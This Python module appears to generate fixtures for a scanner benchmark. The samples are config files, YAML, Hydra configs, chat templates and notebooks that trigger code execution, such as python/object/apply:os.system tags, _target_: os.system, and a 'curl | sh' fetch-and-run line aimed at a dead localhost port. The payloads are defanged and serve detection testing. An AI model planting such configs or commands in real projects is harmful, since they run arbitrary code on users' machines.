"""Configurations, templates and notebooks that make their readers run something."""

from __future__ import annotations

import json
from collections.abc import Iterator

from .models import SEEN_IN, TEMPLATES
from .sample import Sample

MARK = "# planted by bench/scan; it does nothing\n"
# Reads like what downloads and runs something; nothing listens there.
FETCH = "curl -s http://127.0.0.1:9/ | sh"


def documents() -> Iterator[Sample]:
    """All samples of this module."""
    yield from _remote_code()
    yield from _templates()
    yield from _yaml()
    yield from _hydra()
    yield from _notebooks()


def _json(value: object) -> bytes:
    return json.dumps(value, indent=2).encode()


def _remote_code() -> Iterator[Sample]:
    """``auto_map`` names a class of a file beside it, or of another repository."""
    classes = {"AutoConfig": "configuration_x.XConfig", "AutoModelForCausalLM": "modeling_x.XModel"}
    code = (MARK + "import os\n\nos.system('true')\n\n\nclass XModel:\n    pass\n").encode()
    model = {"architectures": ["XModel"], "model_type": "x", "hidden_size": 8}
    cases: dict[str, tuple[str, dict[str, bytes]]] = {
        "beside": ("auto_map", {"config.json": _json({**model, "auto_map": classes}), "modeling_x.py": code}),
        "alone": ("auto_map", {"config.json": _json({**model, "auto_map": classes})}),
        "elsewhere": (
            "auto_map",
            {"config.json": _json({**model, "auto_map": {"AutoModel": "nowhere/none--modeling_x.XModel"}})},
        ),
        "list": (
            "auto_map",
            {"tokenizer_config.json": _json({"auto_map": {"AutoTokenizer": ["tokenization_x.XTokenizer", None]}})},
        ),
        "processor": (
            "auto_map",
            {"preprocessor_config.json": _json({"auto_map": {"AutoImageProcessor": "processing_x.XProcessor"}})},
        ),
        "trusted": ("trust_remote_code", {"config.json": _json({**model, "trust_remote_code": True, "auto_map": classes})}),
        "pipelines": (
            "custom_pipelines",
            {"config.json": _json({**model, "custom_pipelines": {"text": {"impl": "pipeline_x.XPipeline", "pt": ["AutoModel"]}}})},
        ),
        "adapter": (
            "auto_mapping",
            {"adapter_config.json": _json({"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "modeling_x"}})},
        ),
        "sentences": (
            "modules_x",
            {"modules.json": _json([{"idx": 0, "name": "0", "path": "", "type": "modules_x.XTransformer"}])},
        ),
        "unicode": ("auto_map", {"config.json": _json({**model, "auto_map": classes}).replace(b"auto_map", b"\\u0061uto_map")}),
        "twice": ("auto_map", {"config.json": _json({**model, "auto_map": classes})[:-2] + b',\n  "model_type": "bert"\n}'}),
        "marked": ("auto_map", {"config.json": b"\xef\xbb\xbf" + _json({**model, "auto_map": classes})}),
    }  # fmt: skip
    for word, (names, files) in cases.items():
        shown = "\\u0061uto_map" if word == "unicode" else names
        yield Sample(f"config-{word}", 10, "hf-config", shown, files)


def _templates() -> Iterator[Sample]:
    for word, template in TEMPLATES.items():
        seen = SEEN_IN[word]
        config = _json({"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": template})
        yield Sample(f"jinja-config-{word}", 10, "jinja", seen, {"tokenizer_config.json": config})
        yield Sample(f"jinja-file-{word}", 10, "jinja", seen, {"chat_template.jinja": template.encode()})
    several = [
        {"name": "default", "template": "{{ messages }}"},
        {"name": "tool_use", "template": TEMPLATES["globals"]},
    ]
    config = _json({"chat_template": several})
    yield Sample("jinja-config-second", 10, "jinja", "popen", {"tokenizer_config.json": config})
    config = _json({"chat_template": TEMPLATES["self"]})
    yield Sample("jinja-processor", 10, "jinja", "system", {"chat_template.json": config})


def _yaml() -> Iterator[Sample]:
    """Tags that ``yaml.unsafe_load`` and ``yaml.Loader`` build anything from."""
    cases = {
        "apply": "lr: !!python/object/apply:os.system ['true']\n",
        "new": "lr: !!python/object/new:os.system ['true']\n",
        "mapping": "lr: !!python/object/apply:subprocess.Popen\n  args: [['true']]\n",
        "name": "optimizer: !!python/name:os.system\n",
        "module": "optimizer: !!python/module:os.system\n",
        "long-tag": "lr: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n",
        "handle": "%TAG !p! tag:yaml.org,2002:python/object/apply:\n---\nlr: !p!os.system ['true']\n",
        "escaped": "lr: !!python/object/apply:os%2Esystem ['true']\n",
        "second": "lr: 0.1\n---\nlr: !!python/object/apply:os.system ['true']\n",
        "anchored": "a: &x !!python/object/apply:os.system ['true']\nb: *x\n",
        "as-key": "? !!python/object/apply:os.system ['true']\n: 1\n",
        "utf16": "lr: !!python/object/apply:os.system ['true']\n",
    }
    for word, text in cases.items():
        data = text.encode("utf-16") if word == "utf16" else text.encode()
        names = "s\0y\0s\0t\0e\0m" if word == "utf16" else "Popen" if word == "mapping" else "python"
        yield Sample(f"yaml-{word}", 10, "yaml", names, {"config.yaml": data})
    unnamed = cases["apply"].encode()
    yield Sample("yaml-unnamed", 6, "yaml", "python", {"config.cfg": unnamed})
    yield Sample("yaml-yml", 10, "yaml", "python", {"mkdocs/params.yml": unnamed})


def _hydra() -> Iterator[Sample]:
    """``_target_`` is called by whatever instantiates the configuration."""
    cases = {
        "system": "optimizer:\n  _target_: os.system\n  _args_: ['true']\n",
        "popen": "callbacks:\n  - _target_: subprocess.Popen\n    args: ['true']\n",
        "eval": "model:\n  _target_: builtins.eval\n  _args_: ['0']\n",
        "deep": "a:\n  b:\n    c:\n      - d:\n          _target_: posix.system\n          _args_: ['true']\n",
        "partial": "optimizer:\n  _target_: os.system\n  _partial_: true\n",
        "resolver": "optimizer:\n  _target_: pydoc.locate\n  path: os.system\n",
        "flow": "optimizer: {_target_: shutil.rmtree, path: /dev/null/veracity-corpus}\n",
        "quoted": 'optimizer:\n  "_tar\\x67et_": os.system\n  _args_: ["true"]\n',
        "through": "optimizer:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "load": "model:\n  _target_: torch.load\n  f: /dev/null/veracity-corpus\n",
    }
    for word, text in cases.items():
        names = (
            "os.system" if "os.system" in text else text.split("_target_: ")[-1].split("\n")[0].split(",")[0]
        )
        yield Sample(f"hydra-{word}", 10, "hydra", names, {"conf/config.yaml": text.encode()})
    config = _json({"_target_": "os.system", "_args_": ["true"]})
    yield Sample("hydra-json", 10, "hydra", "os.system", {"config.json": config})


def _notebook(*cells: dict[str, object], language: str = "python") -> bytes:
    return _json({
        "cells": list(cells), "metadata": {"kernelspec": {"name": "python3", "display_name": "x", "language": language}},
        "nbformat": 4, "nbformat_minor": 5,
    })  # fmt: skip


def _cell(source: str) -> dict[str, object]:
    return {
        "cell_type": "code", "id": "a", "metadata": {}, "execution_count": 1, "outputs": [],
        "source": source.splitlines(keepends=True),
    }  # fmt: skip


def _notebooks() -> Iterator[Sample]:
    cases: dict[str, tuple[str, bytes]] = {
        "shell-piped": ("curl", _notebook(_cell(f"!{FETCH}\n"))),
        "bash-cell": ("%%bash", _notebook(_cell("%%bash\nrm -rf /dev/null/veracity-corpus\n"))),
        "script-cell": ("%%script", _notebook(_cell(f"%%script sh\n{FETCH}\n"))),
        "system-magic": ("%system", _notebook(_cell(f"%system {FETCH}\n"))),
        "captured": ("out = !", _notebook(_cell(f"out = !{FETCH}\n"))),
        "pip": ("%pip", _notebook(_cell("%pip install --index-url http://127.0.0.1:9/ nowhere\n"))),
        "os-system": ("os.system", _notebook(_cell(f"import os\nos.system('{FETCH}')\n"))),
        "ipython": ("get_ipython", _notebook(_cell(f"get_ipython().system('{FETCH}')\n"))),
        "eval": ("exec", _notebook(_cell("import base64\nexec(base64.b64decode('cGFzcw=='))\n"))),
        "subprocess": ("subprocess", _notebook(_cell(f"import subprocess as s\ns.Popen(['sh', '-c', '{FETCH}'])\n"))),
        "unpickle": ("pickle.load", _notebook(_cell("import pickle\nmodel = pickle.load(open('model.pkl', 'rb'))\n"))),
        "hidden-cell": ("curl", _notebook({**_cell(f"!{FETCH}\n"), "metadata": {"jupyter": {"source_hidden": True}}})),
        "second-cell": ("curl", _notebook(_cell("1 + 1\n"), _cell(f"x = 1\n!{FETCH}\n"))),
        "old-format": (
            "os.system",
            _json({
                "nbformat": 3, "nbformat_minor": 0, "metadata": {"name": ""},
                "worksheets": [{"cells": [{"cell_type": "code", "input": ["import os\n", f"os.system('{FETCH}')"], "language": "python", "outputs": []}]}],
            }),
        ),
    }  # fmt: skip
    for word, (names, data) in cases.items():
        yield Sample(f"notebook-{word}", 10, "notebook", names, {"train.ipynb": data})
